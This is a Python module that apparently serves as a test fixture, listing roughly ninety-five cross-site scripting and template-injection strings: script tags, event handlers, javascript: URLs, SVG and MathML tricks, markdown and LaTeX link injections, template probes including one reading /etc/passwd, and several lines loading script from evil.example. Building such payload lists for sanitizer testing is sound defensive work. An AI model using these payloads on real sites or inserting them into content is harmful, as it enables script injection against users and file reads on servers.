"""Texts that were written to break out of a page, one a line."""

from __future__ import annotations

PAYLOADS = tuple(
    line
    for line in r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script>alert(1)//
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=javascript:alert(1)>
<img srcset="x 1x" onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src="javascript:alert(1)">
<base href="javascript:/a/-alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,x>
<style>@import'//evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<form action="javascript:alert(1)"><button>go</button></form>
<button formaction="javascript:alert(1)">go</button>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<template><script>alert(1)</script></template>
<a href="javascript:alert(1)">go</a>
<a href="java&#x09;script:alert(1)">go</a>
<a href="&#106;avascript:alert(1)">go</a>
<a href=" javascript:alert(1)">go</a>
<a href="data:text/html,<script>alert(1)</script>">go</a>
<a href='vbscript:msgbox(1)'>go</a>
<a onmouseover=alert(1)>go</a>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
`"'><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
{{ 7*7 }}
{{ ''.__class__.__mro__ }}
{% include "/etc/passwd" %}
{# remark #}
${alert(1)}
#{alert(1)}
<%= 7*7 %>
[go](javascript:alert(1))
[go](<javascript:alert(1)>)
![go](javascript:alert(1))
![x](x" onerror="alert(1))
[go](https://example.org/" onmouseover="alert(1))
<javascript:alert(1)>
[x]: javascript:alert(1)
$\href{javascript:alert(1)}{x}$
$\text{<script>alert(1)</script>}$
$\text{<mi onclick=alert(1)>x</mi>}$
$\style{x" onload="alert(1)}{x}$
https://example.org/"onmouseover="alert(1)
javascript:alert(1)
javascript://example.org/%0aalert(1)
data:text/html,<script>alert(1)</script>
""".splitlines()
    if line
)
